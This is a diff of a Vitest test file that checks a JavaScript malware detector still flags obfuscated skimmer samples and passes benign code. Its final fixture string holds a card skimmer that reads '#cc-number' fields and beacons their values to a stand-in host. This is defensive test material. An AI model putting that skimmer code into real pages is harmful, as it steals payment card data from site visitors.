@@ -2,6 +2,7 @@ import JavaScriptObfuscator, { type ObfuscatorOptions } from 'javascript-obfusca
 import { describe, expect, it } from 'vitest'
 import { analyzeScript } from '../../detector/index.ts'
 import { loadSamples } from '../../fixtures/samples/load.ts'
+import { LOADED_MACHINE } from './detector/slow.ts'
 
 // Every sample dressed by the real javascript-obfuscator at test time: string arrays must be
 // resolved statically well enough that skimmers stay caught and benign code stays uncalled.
@@ -37,22 +38,15 @@ const DRESSES: { name: string; options: ObfuscatorOptions }[] = [
   },
 ]
 
-describe.each(['none', 'base64', 'rc4'] as const)('javascript-obfuscator, %s encoding', (enc) => {
-  it('with control-flow flattening on keeps at least 90% of the malicious samples malicious', () => {
-    const options: ObfuscatorOptions = { controlFlowFlattening: true, stringArrayWrappersCount: 1 }
-    const verdicts = malicious.map(
-      (s) => analyzeScript(obfuscate(s.source, enc, options), s.expected.ctx ?? {}).verdict,
-    )
-    const strict = verdicts.filter((v) => v === 'malicious').length
-    expect(strict / malicious.length).toBeGreaterThanOrEqual(0.9)
-    for (const s of benign)
-      expect(
-        analyzeScript(obfuscate(s.source, enc, options), s.expected.ctx ?? {}).verdict,
-      ).not.toBe('malicious')
-  }, 60_000)
-
-  describe.each(DRESSES)('$name', ({ options }) => {
-    it('keeps at least 90% of the malicious samples malicious and none clean', () => {
+describe.each(['none', 'base64', 'rc4'] as const)(
+  'javascript-obfuscator, %s encoding',
+  LOADED_MACHINE,
+  (enc) => {
+    it('with control-flow flattening on keeps at least 90% of the malicious samples malicious and none clean', () => {
+      const options: ObfuscatorOptions = {
+        controlFlowFlattening: true,
+        stringArrayWrappersCount: 1,
+      }
       const verdicts = malicious.map((s) => ({
         name: s.name,
         verdict: analyzeScript(obfuscate(s.source, enc, options), s.expected.ctx ?? {}).verdict,
@@ -60,21 +54,37 @@ describe.each(['none', 'base64', 'rc4'] as const)('javascript-obfuscator, %s enc
       expect(verdicts.filter((v) => v.verdict === 'clean')).toEqual([])
       const strict = verdicts.filter((v) => v.verdict === 'malicious').length
       expect(strict / malicious.length).toBeGreaterThanOrEqual(0.9)
+      for (const s of benign)
+        expect(
+          analyzeScript(obfuscate(s.source, enc, options), s.expected.ctx ?? {}).verdict,
+        ).not.toBe('malicious')
     })
 
-    it('never calls a benign sample malicious', () => {
-      for (const s of benign) {
-        const v = analyzeScript(obfuscate(s.source, enc, options), s.expected.ctx ?? {})
-        expect({ name: s.name, verdict: v.verdict }).not.toEqual({
+    describe.each(DRESSES)('$name', ({ options }) => {
+      it('keeps at least 90% of the malicious samples malicious and none clean', () => {
+        const verdicts = malicious.map((s) => ({
           name: s.name,
-          verdict: 'malicious',
-        })
-      }
-    })
-  })
-})
+          verdict: analyzeScript(obfuscate(s.source, enc, options), s.expected.ctx ?? {}).verdict,
+        }))
+        expect(verdicts.filter((v) => v.verdict === 'clean')).toEqual([])
+        const strict = verdicts.filter((v) => v.verdict === 'malicious').length
+        expect(strict / malicious.length).toBeGreaterThanOrEqual(0.9)
+      })
 
-describe('javascript-obfuscator string arrays, resolved', () => {
+      it('never calls a benign sample malicious', () => {
+        for (const s of benign) {
+          const v = analyzeScript(obfuscate(s.source, enc, options), s.expected.ctx ?? {})
+          expect({ name: s.name, verdict: v.verdict }).not.toEqual({
+            name: s.name,
+            verdict: 'malicious',
+          })
+        }
+      })
+    })
+  },
+)
+
+describe('javascript-obfuscator string arrays, resolved', LOADED_MACHINE, () => {
   const skimmer = `document.querySelectorAll('#cc-number').forEach(function (e) {
     navigator.sendBeacon('https://drop.example.test/c', e.value)
   })`
